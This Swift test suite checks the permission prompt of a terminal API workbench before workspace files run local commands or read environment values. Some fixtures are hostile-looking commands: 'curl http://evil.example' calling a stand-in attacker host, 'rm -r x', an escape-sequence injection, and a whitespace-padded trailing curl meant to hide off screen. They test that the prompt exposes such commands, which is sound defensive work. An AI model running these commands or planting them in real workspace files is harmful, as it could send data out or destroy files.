import SortieTerminal
import Testing
import WorkspaceModel

@testable import SortieWorkbench

/// Tests the request for permission before a workspace uses the machine (`Security.md` 3).
@Suite struct PermissionTests {
    private static let command = Capability(.command, "pass show shop")

    /// The sample with a secret from a command that one of its endpoints sends.
    private static func workspace(_ commands: [String: String] = ["pw": "pass show shop"]) -> Workspace {
        var workspace = Workspace.sample
        workspace.secrets = commands.mapValues { .command($0) }
        workspace.services[0].endpoints[2].headers = commands.keys.sorted().map { Parameter("X-\($0)", "{{\($0)}}") }
        return workspace
    }

    private func opened(_ target: String = "shop/orders/list", permitted: Set<Capability> = []) -> AppState {
        var state = AppState(workspace: Self.workspace(), environment: nil, size: Size(width: 80, height: 24), permitted: permitted)
        state.open(target)
        return state
    }

    @Test func `a send waits for the decision, and No is selected`() {
        var state = opened()
        #expect(state.press("^R") == [])
        for text in ["May this workspace use your machine?", "No", "Only now", "Allow", "run the command pass show shop", "send {{pw}} to"] {
            #expect(state.screen.contains(text), "\(text) in \(state.screen)")
        }
        #expect(state.press("Enter") == [])
        #expect(state.popup == nil)
        #expect(state.screen.contains("did not permit"))
        #expect(state.callsInFlight == 0)
    }

    @Test func `Esc sends nothing`() {
        var state = opened()
        state.press("^R")
        #expect(state.press("Esc") == [])
        #expect(state.popup == nil && state.callsInFlight == 0)
        #expect(state.permission.permitted.isEmpty)
    }

    @Test func `F1 explains the question, which stays open`() {
        var state = opened()
        state.press("^R")
        #expect(state.press("F1") == [])
        #expect(state.screen.contains("sortie guide security"))
        state.press("Esc")
        #expect(state.screen.contains("May this workspace use your machine?"))
        #expect(state.press("Down", "Enter").contains { if case .send = $0 { true } else { false } })
    }

    @Test(arguments: [false, true]) func `a waiting send is performed after the permission`(isForGood: Bool) throws {
        var state = opened()
        state.press("^R")
        let effects = isForGood ? state.press("Down", "Down", "Enter") : state.press("Down", "Enter")
        guard case .permit(let capabilities, isForGood: isForGood)? = effects.first, case .send? = effects.last, effects.count == 2 else {
            Issue.record("\(effects)")
            return
        }
        #expect(capabilities == state.permission.scan.all)
        // The next request requires no further permission.
        #expect(state.press("^R").contains { if case .send = $0 { true } else { false } })
    }

    @Test func `an endpoint without capabilities is sent immediately`() {
        var state = opened("shop/orders/create")
        #expect(state.press("^R").count == 1)
        #expect(state.popup == nil)
    }

    @Test func `a preview of the request waits as well`() {
        var state = opened()
        #expect(state.press("v") == [])
        #expect(state.screen.contains("May this workspace"))
    }

    @Test func `a change of the files requires permission only for what is new`() {
        let first = CapabilityScan(Self.workspace()).all
        var state = opened(permitted: first)
        _ = state.update(.workspaceLoaded(Self.workspace(["pw": "pass show shop", "evil": "curl http://evil.example"])))
        #expect(state.press("^R") == [])
        #expect(state.screen.contains("have changed since"))
        #expect(state.screen.contains("curl http://evil.example"))
        #expect(!state.screen.contains("pass show shop"))
    }

    @Test func `files that change during the question are included, and No is selected again`() throws {
        var state = opened()
        state.press("^R")
        state.press("Down", "Down")
        #expect(state.update(.workspaceLoaded(Self.workspace(["pw": "rm -r x"]))) == [])
        #expect(state.screen.contains("rm -r x") && !state.screen.contains("pass show shop"))
        #expect(state.press("Enter") == [])
        #expect(state.permission.permitted.isEmpty)
    }

    @Test func `capabilities typed into a draft and saved are permitted, earlier ones of the files are not`() throws {
        var state = opened("shop/orders/create")
        state.change { $0.headers.append(Parameter("X-Home", "{{$env.HOME}}")) }
        guard case .save(let job, let endpoint, _)? = state.press("^S").last else {
            Issue.record("nothing was saved")
            return
        }
        let effects = state.update(.saved(job, .saved(endpoint)))
        guard case .permit(let capabilities, isForGood: true)? = effects.first else {
            Issue.record("\(effects)")
            return
        }
        #expect(capabilities.contains(Capability(.environment, "HOME")) && !capabilities.contains(Self.command))
        #expect(!state.permission.permitted.contains(Self.command))
        #expect(state.press("^R").contains { if case .send = $0 { true } else { false } })
    }

    @Test func `a change of files that was scanned outside of the workbench is not scanned again`() throws {
        var state = opened("shop/orders/create")
        let id = state.nextJob(EditWorkspaceJob(edit: .createEnvironment("x", from: nil), text: "Created x"))
        let scan = CapabilityScan(Self.workspace(["other": "true"]))
        _ = state.update(.workspaceEdited(id, .done(FileChanges(), Self.workspace(), scan)))
        #expect(state.permission.scan == scan)
    }

    /// The workbench that asks for the permission of a command.
    private func asking(_ command: String) -> AppState {
        var state = AppState(workspace: Self.workspace(["pw": command]), environment: nil, size: Size(width: 80, height: 24))
        state.open("shop/orders/list")
        state.press("^R")
        return state
    }

    @Test func `every part of a very long command is reached by scrolling, while the choices stay visible`() {
        let words = (0..<1_000).map { "word\($0)" }
        var state = asking(words.joined(separator: " "))
        #expect(state.screen.contains("PgDn PgUp scroll"))
        var seen: Set<String> = []
        for _ in 0..<100 {
            let screen = state.screen
            #expect(screen.contains("Only now") && screen.contains("Allow"))
            seen.formUnion(screen.split { !$0.isLetter && !$0.isNumber }.map { String($0) })
            #expect(state.press("PgDn") == [])
        }
        #expect(seen.isSuperset(of: words))
        #expect(state.screen.contains("send {{pw}} to"))
        state.press("Home")
        #expect(state.screen.contains("run the command word0 "))
        // Scrolling does not change the choice.
        #expect(state.press("Enter") == [])
        #expect(state.permission.permitted.isEmpty && state.popup == nil)
    }

    @Test func `control characters in a command are displayed as such`() {
        let state = asking("echo a\u{1b}[2J\n- read nothing")
        #expect(!state.screen.contains("\u{1b}"))
        #expect(state.screen.contains("␊"))
    }

    @Test func `a text of extreme length is listed whole`() {
        var state = asking("echo \(String(repeating: "a", count: 1_000_000)); touch hidden")
        state.press("End")
        #expect(state.screen.contains("; touch hidden"))
    }

    /// The sample with a hook whose program has a digest.
    private static func hooked(_ digest: String) -> Workspace {
        var workspace = Workspace.sample
        workspace.services[0].hooks = [HookSetting(.willSend, command: ["./sign"])]
        workspace.programDigests = ["./sign": digest]
        return workspace
    }

    @Test func `a changed program of a hook is asked for before the send, which follows the permission`() {
        var state = AppState(
            workspace: Self.hooked("1"), environment: nil, size: Size(width: 80, height: 24), permitted: CapabilityScan(Self.hooked("1")).all)
        state.open("shop/orders/list")
        let effects = state.press("^R")
        #expect(effects.count == 1)
        #expect(state.update(.hooksChanged(Self.hooked("2"), before: effects[0])) == [])
        #expect(state.screen.contains("have changed since") && state.screen.contains("sha256:2"))
        let needed = state.permission.scan.all
        let allowed = state.press("Down", "Down", "Enter")
        #expect(allowed == [.permit(needed, isForGood: true), effects[0]])
    }

    @Test func `a call that was cancelled while the programs of hooks were compared is neither sent nor asked for`() {
        var state = AppState(
            workspace: Self.hooked("1"), environment: nil, size: Size(width: 80, height: 24), permitted: CapabilityScan(Self.hooked("1")).all)
        state.open("shop/orders/list")
        let effects = state.press("^R")
        state.press("3", "^C")
        let later = state.update(.hooksChanged(Self.hooked("2"), before: effects[0]))
        #expect(!later.contains { if case .send = $0 { true } else { false } })
        #expect(state.popup == nil && state.callsInFlight == 0)
    }

    @Test func `after No the remedy is to send again and to choose Allow`() {
        var state = opened()
        state.size = Size(width: 120, height: 40)
        state.press("^R")
        state.press("Enter")
        let text = state.screen.split(whereSeparator: \.isWhitespace).joined(separator: " ")
        #expect(text.contains("choose Allow") && text.contains("sends it again") && !text.contains("Correct it there"), "\(state.screen)")
    }

    @Test func `a long command is displayed completely`() {
        var state = AppState(
            workspace: Self.workspace(["pw": "pass show shop" + String(repeating: " ", count: 200) + "; curl http://evil.example"]), environment: nil,
            size: Size(width: 80, height: 24))
        state.open("shop/orders/list")
        state.press("^R")
        #expect(state.screen.contains("; curl http://evil.example"))
    }
}
